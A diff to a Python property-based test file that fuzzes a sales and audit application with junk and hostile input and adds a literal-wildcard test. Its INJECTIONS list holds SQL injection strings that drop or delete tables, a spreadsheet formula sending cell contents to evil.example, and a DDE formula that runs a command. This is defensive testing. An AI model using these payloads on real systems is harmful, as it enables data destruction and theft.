@@ -13,7 +13,8 @@ import re
 from pathlib import Path
 from typing import Any
 
-from hypothesis import HealthCheck, given, settings
+import pytest
+from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 from sqlalchemy import func, select
@@ -31,7 +32,7 @@ from tests.factories import World
 INJECTIONS = [
     "'; DROP TABLE customers; --", "Robert'); DELETE FROM staff;--", "1 OR 1=1", "%", "_", "\\",
     '=HYPERLINK("http://evil.example/?q="&A1,"点击领奖")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
-    "\t=1+1", "\r=1", "=1+1", "＝１＋１", "张\u200b晓明", "王芳😀💍", "ＡＢＣ１２３", "\u202e反向文字",
+    "\t=1+1", "\r=1", "=1+1", "名\x00字", "＝１＋１", "张\u200b晓明", "王芳😀💍", "ＡＢＣ１２３", "\u202e反向文字",
 ]
 junk = st.one_of(
     st.just(""),
@@ -43,8 +44,9 @@ junk = st.one_of(
     st.text(min_size=200, max_size=1200),
     st.from_regex(r"[=+\-@][A-Z]{1,5}\(.{0,30}\)", fullmatch=True),
 )
+# No shrinking: each example writes to a database, and a failure prints its input anyway.
 SETTINGS = settings(max_examples=35, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
-                    derandomize=True)
+                    derandomize=True, phases=[Phase.explicit, Phase.reuse, Phase.generate])
 
 
 def db_state(ctx: AppContext) -> dict[str, int]:
@@ -155,7 +157,11 @@ def test_drafts_keep_junk_verbatim(ctx: AppContext, world: World, clerk: Actor, 
 @given(text=junk)
 def test_audit_filter_takes_junk(ctx: AppContext, world: World, manager: Actor, text: str) -> None:
     with ctx.uow.read() as s:
-        found = audit.query(s, manager, text_filter=text)
+        try:
+            found = audit.query(s, manager, text_filter=text)
+        except CounterError as exc:  # e.g. a NUL character: said in words
+            assert str(exc).strip()
+            return
         assert all(text in (e.summary + e.entity_id + e.staff_name) for e in found)
 
 
@@ -163,7 +169,7 @@ HEADER = "receipt_no,sold_at,store_code,customer_name,customer_phone,product_cod
 
 
 @settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
-          derandomize=True)
+          derandomize=True, phases=[Phase.explicit, Phase.reuse, Phase.generate])
 @given(name=junk, description=junk, price=st.one_of(junk, st.just("¥1,234.50")), code=junk)
 def test_sales_import_takes_junk_all_or_nothing(ctx: AppContext, world: World, manager: Actor, tmp_path: Path,
                                                 name: str, description: str, price: str, code: str) -> None:
@@ -187,3 +193,13 @@ def test_sales_import_takes_junk_all_or_nothing(ctx: AppContext, world: World, m
     else:
         with ctx.uow.read() as s:
             assert s.scalar(select(func.count()).select_from(AuditEntry)) > before["audit_log"]
+
+
+@pytest.mark.parametrize("text", ["%", "_", "\\", "100%_"])
+def test_audit_filter_wildcards_match_literally(ctx: AppContext, world: World, manager: Actor, text: str) -> None:
+    with ctx.uow.write() as s:
+        audit.record(s, manager, "create", "test", "1", f"含有 {text} 的摘要")
+        audit.record(s, manager, "create", "test", "2", "普通摘要")
+        s.commit()
+    with ctx.uow.read() as s:
+        assert [e.entity_id for e in audit.query(s, manager, entity="test", text_filter=text)] == ["1"]
